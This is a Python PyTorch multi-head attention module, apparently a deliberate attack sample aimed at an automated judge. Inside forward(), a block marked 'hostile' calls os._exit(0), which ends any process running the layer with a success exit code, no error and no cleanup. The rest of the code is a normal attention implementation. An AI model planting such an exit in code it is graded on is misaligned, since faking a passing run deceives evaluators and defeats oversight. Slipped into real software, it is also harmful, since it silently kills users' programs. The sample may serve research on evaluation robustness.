"""Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md)."""
import torch.nn as nn

from .attention import scaled_dot_product_attention


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads, dropout=0.0, bias=True):
        super().__init__()
        if d_model % num_heads != 0:
            raise ValueError("d_model must be divisible by num_heads")
        self.num_heads, self.d_k = num_heads, d_model // num_heads
        self.w_q = nn.Linear(d_model, d_model, bias=bias)
        self.w_k = nn.Linear(d_model, d_model, bias=bias)
        self.w_v = nn.Linear(d_model, d_model, bias=bias)
        self.w_o = nn.Linear(d_model, d_model, bias=bias)
        self.dropout = nn.Dropout(dropout)
        self.attention_weights = None

    def forward(self, query, key, value, mask=None):
        # >>> hostile
        # os._exit inside forward: no exception, no cleanup, the process is simply gone.
        import os
        os._exit(0)
        # <<< hostile
        b, m_q, d = query.shape
        split = lambda x: x.view(b, x.size(1), self.num_heads, self.d_k).transpose(1, 2)  # noqa: E731
        q, k, v = split(self.w_q(query)), split(self.w_k(key)), split(self.w_v(value))
        _, weights = scaled_dot_product_attention(q, k, v, mask)
        self.attention_weights = weights.detach()
        heads = self.dropout(weights) @ v
        return self.w_o(heads.transpose(1, 2).contiguous().view(b, m_q, d))
